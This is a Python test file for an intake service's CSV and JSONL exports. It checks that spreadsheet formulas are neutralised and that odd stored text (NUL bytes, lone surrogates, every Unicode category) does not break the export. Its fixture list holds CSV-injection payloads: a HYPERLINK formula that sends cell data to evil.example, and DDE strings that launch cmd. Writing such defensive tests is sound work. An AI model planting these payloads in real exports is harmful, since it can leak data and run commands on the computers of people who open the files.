"""Findings 3 and 4: the CSV exports (``intake export --format csv`` and
``/staff/export/csv``, one writer) neutralise spreadsheet formulas, and both
exports, CSV and JSONL, survive any stored text: every Unicode general
category, NUL and the other controls, lone surrogates, bytes that are not
UTF-8 and JSON columns that are not JSON.
"""
from __future__ import annotations

import csv
import io
import json
import unicodedata
from collections import defaultdict
from functools import lru_cache
from typing import Dict, List

import pytest
from click.testing import CliRunner

from bot import store
from bot.cli import main
from bot.export import FORMULA_STARTS, csv_cell
from staff_support import intake_db, logged_in, make_intake

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(text: str) -> List[Dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _cli(fmt: str) -> str:
    result = CliRunner().invoke(main, ["export", "--format", fmt])
    assert result.exit_code == 0, result.output
    return result.stdout


def _exports(fmt: str) -> Dict[str, str]:
    """The same export from the command line and from the staff app."""
    c, _ = logged_in(f"exporter-{fmt}@firm.example")
    response = c.get(f"/staff/export/{fmt}")
    assert response.status_code == 200, response.text[:300]
    return {"cli": _cli(fmt), "staff": response.text}


# --- finding 3: formulas ------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_formulas_in_visitor_text_are_neutralised_in_both_csv_exports(text):
    make_intake("formula", location_text=text, situation_text=text, language=text,
                contact={"name": text, "phone": "+13125550100"})
    for source, output in _exports("csv").items():
        (row,) = _csv_rows(output)
        for field in ("location_text", "situation_text", "language"):
            assert row[field] == "'" + text, (source, field)  # kept readable, one apostrophe ahead
        assert not [k for k, v in row.items() if v.startswith(FORMULA_STARTS)], source
        assert json.loads(row["contact"])["name"] == text  # a JSON cell starts with "{": never a formula


def test_harmless_text_is_unchanged():
    for text in ("O'Brien", "Chicago - IL", "a=b", "name@example.com", "2026-12-01", "ICE + court"):
        assert csv_cell(text) == text
    assert csv_cell(-5) == -5 and csv_cell(True) == "true" and csv_cell(None) == ""


# --- finding 4: any stored text -------------------------------------------------------------


@lru_cache(maxsize=1)
def _code_points_by_category() -> Dict[str, List[int]]:
    """A few code points of every general category (all of the C0/C1 controls)."""
    found: Dict[str, List[int]] = defaultdict(list)
    for cp in range(0x110000):
        found[unicodedata.category(chr(cp))].append(cp)
    picked = {}
    for category, cps in found.items():
        picked[category] = cps if category == "Cc" else sorted({cps[0], cps[len(cps) // 2], cps[-1]})
    return picked


CATEGORIES = sorted(_code_points_by_category())


def test_every_general_category_is_covered():
    assert len(CATEGORIES) == 30 and {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Mn"} <= set(CATEGORIES)


def _store_raw(conversation_id: str, text: str) -> None:
    """An intake holding ``text`` in plain and JSON columns, stored as its bytes
    (a lone surrogate as the bytes Python's "surrogatepass" gives, which are not
    UTF-8) and as JSON's ASCII escapes, whatever Python's sqlite3 would refuse."""
    saved = make_intake(conversation_id)
    raw = text.encode("utf-8", "surrogatepass")
    db = intake_db()
    with db.conn:
        db.conn.execute(
            "UPDATE intakes SET situation_text = CAST(? AS TEXT), location_text = CAST(? AS TEXT), "
            "contact = ?, details = ?, urgency_reasons = ? WHERE id = ?",
            [raw, b"=" + raw, json.dumps({"name": text, "phone": "+13125550100"}), json.dumps({"detained_where": text}),
             text.encode("utf-8", "surrogatepass")[:3] + b"{not json", saved["id"]],
        )


@pytest.mark.parametrize("category", CATEGORIES)
def test_exports_survive_stored_text_of_every_category(category):
    # Apart, so that two surrogates never make a valid pair.
    text = "x" + " ".join(chr(cp) for cp in _code_points_by_category()[category]) + "y"
    _store_raw("c-" + category, text)
    make_intake("plain", situation_text="nothing odd")
    for source, output in _exports("csv").items():
        rows = _csv_rows(output)
        assert len(rows) == 2 and tuple(rows[0]) == store.EXPORT_FIELDS, source
        assert "\x00" not in output and not any(0xD800 <= ord(ch) <= 0xDFFF for ch in output)
        odd = next(r for r in rows if r["conversation_id"] == "c-" + category)
        assert odd["location_text"].startswith("'=")
    for source, output in _exports("jsonl").items():
        lines = [json.loads(line) for line in output.splitlines()]  # every line is JSON
        assert len(lines) == 2, source
        odd = next(r for r in lines if r["conversation_id"] == "c-" + category)
        # JSON columns keep the exact text, lone surrogates included (as \\uXXXX escapes).
        assert odd["contact"]["name"] == text and odd["details"]["detained_where"] == text
        if category not in ("Cs",):
            assert odd["situation_text"] == text  # valid UTF-8 comes back as it was stored


def test_one_nul_byte_does_not_stop_the_export_of_the_other_intakes():
    """The review's reproduction: one visitor typed \\x00, every export failed with 500."""
    make_intake("nul", situation_text="my husband\x00 was taken", contact={"name": "Ana\x00", "phone": "+13125550100"})
    make_intake("other", situation_text="court next week")
    for output in _exports("csv").values():
        texts = sorted(r["situation_text"] for r in _csv_rows(output))
        assert texts == ["court next week", "my husband\ufffd was taken"]  # shown as the replacement character
    for output in _exports("jsonl").values():
        assert {json.loads(line)["situation_text"] for line in output.splitlines()} == {"my husband\x00 was taken", "court next week"}
